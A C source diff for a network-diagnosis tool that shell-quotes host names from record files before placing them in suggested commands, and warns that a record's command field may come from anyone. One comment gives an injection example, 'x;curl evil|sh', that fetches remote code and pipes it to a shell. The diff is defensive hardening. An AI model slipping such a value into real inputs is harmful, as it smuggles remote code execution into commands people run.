@@ -15,8 +15,10 @@
 #include "error.h"
 #include "heatmap_diagnose.h"
 #include "heatmap_evidence.h"
+#include "inventory.h"
 #include "log.h"
 #include "probe_kind.h"
+#include "shell.h"
 #include "util.h"
 
 static const struct cause_text {
@@ -455,6 +457,18 @@ kinds_of(const struct evidence *ev, const struct finding *f, char *buf,
 	}
 }
 
+/*
+ * A name from the records as a word of a command line the advice offers:
+ * as it is when it keeps the inventory's name rule, else shell-quoted (a
+ * record file is anyone's: "x;curl evil|sh" must stay one word). A new
+ * string, NULL when out of memory.
+ */
+static char *
+cmd_word(const char *name)
+{
+	return inventory_name_valid(name) ? strdup(name) : shell_quote(name);
+}
+
 static const char *
 way(const struct finding *f, const char *out, const char *in,
     const char *both)
@@ -467,14 +481,17 @@ static int
 setup_words(const struct evidence *ev, struct finding *f)
 {
 	const char *h = host(ev, f->place[0]), *e = first_error(f);
+	char *w;
 
 	if (f->cause == DX_ACCESS) {
 		f->title = str_printf("netprof could not reach %s over SSH for "
 		    "%zu probe%s (the network to it may be fine)", h, f->nbad,
 		    PLURAL(f->nbad));
-		f->advice = str_printf("Run netprof check --config FILE "
-		    "--hosts %s: it names the reason (sshd, its port, the host key, "
-		    "the login) and the fix.", h);
+		if ((w = cmd_word(h)) != NULL)
+			f->advice = str_printf("Run netprof check --config FILE "
+			    "--hosts %s: it names the reason (sshd, its port, "
+			    "the host key, the login) and the fix.", w);
+		free(w);
 	} else if (error_with(f, "ping broadcast") != NULL) {
 		f->title = str_printf("%s's address is a broadcast address: "
 		    "ping refuses it (the tool, not the network)", h);
@@ -510,9 +527,10 @@ setup_words(const struct evidence *ev, struct finding *f)
 	} else {
 		f->title = str_printf("the tool failed on %s (setup, not the "
 		    "network): %s", h, e);
-		f->advice = str_printf("Run the record's command (its command "
-		    "field) by hand from here to see the tool's whole output "
-		    "on %s.", h);
+		f->advice = str_printf("Run the probe by hand to see the "
+		    "tool's whole output on %s; the record's command field is "
+		    "the line as the records file gives it (anyone may have "
+		    "written it): read it before you run it.", h);
 	}
 	f->why = str_printf("score %.2f: the tool's or SSH's own error, read "
 	    "from %zu record%s", f->score, f->nbad, PLURAL(f->nbad));
@@ -525,7 +543,7 @@ title_words(const struct evidence *ev, struct finding *f)
 {
 	const char *a = host(ev, f->place[0]), *b = host(ev, f->place[1]);
 	const char *sa = site(ev, f->place[0]), *sb = site(ev, f->place[1]);
-	char p[160], d[64], k[96];
+	char p[160], d[64], k[96], *wa = NULL, *wb = NULL;
 	int ssh_only = !(f->what & DX_W_FAIL);
 
 	protocols(ev, f, f->place[0], p, sizeof p);
@@ -546,9 +564,10 @@ title_words(const struct evidence *ev, struct finding *f)
 		f->title = str_printf("netprof cannot reach %s over SSH: its "
 		    "probes did not run, while what others send to it "
 		    "arrives", a);
-		f->advice = str_printf("Check %s's sshd and what guards its SSH "
-		    "port; netprof check --config FILE --hosts %s names the "
-		    "reason.", a, a);
+		if ((wa = cmd_word(a)) != NULL)
+			f->advice = str_printf("Check %s's sshd and what guards "
+			    "its SSH port; netprof check --config FILE --hosts "
+			    "%s names the reason.", a, wa);
 		break;
 	case DX_SITE_DOWN:
 		f->title = str_printf("site %s is cut off: every pair across "
@@ -659,13 +678,17 @@ title_words(const struct evidence *ev, struct finding *f)
 			f->title = str_printf("%s -> %s was %s in one test "
 			    "against its site pair's typical value (%s -> %s "
 			    "was not): to confirm", a, b, d, b, a);
-			f->advice = str_printf("One throughput test, one way, "
-			    "and nothing else on the pair says so: a short TCP "
-			    "test now and then collapses. Measure the pair "
-			    "again (netprof collect --iperf -H %s,%s, or read "
-			    "two runs together with netprof heatmap --aggregate "
-			    "median); if it holds, check the path %s -> %s (mtr "
-			    "both ways, a rule that shapes it).", a, b, a, b);
+			if ((wa = cmd_word(a)) != NULL &&
+			    (wb = cmd_word(b)) != NULL)
+				f->advice = str_printf("One throughput test, "
+				    "one way, and nothing else on the pair says "
+				    "so: a short TCP test now and then "
+				    "collapses. Measure the pair again (netprof "
+				    "collect --iperf -H %s,%s, or read two runs "
+				    "together with netprof heatmap --aggregate "
+				    "median); if it holds, check the path %s -> "
+				    "%s (mtr both ways, a rule that shapes it).",
+				    wa, wb, a, b);
 			break;
 		}
 		f->title = f->dir == DX_DIR_BOTH ? str_printf("%s <-> %s is %s "
@@ -741,6 +764,8 @@ title_words(const struct evidence *ev, struct finding *f)
 	default:
 		return setup_words(ev, f);
 	}
+	free(wa);
+	free(wb);
 	return f->title != NULL && f->advice != NULL ? 0 : NP_ERR_NOMEM;
 }
 
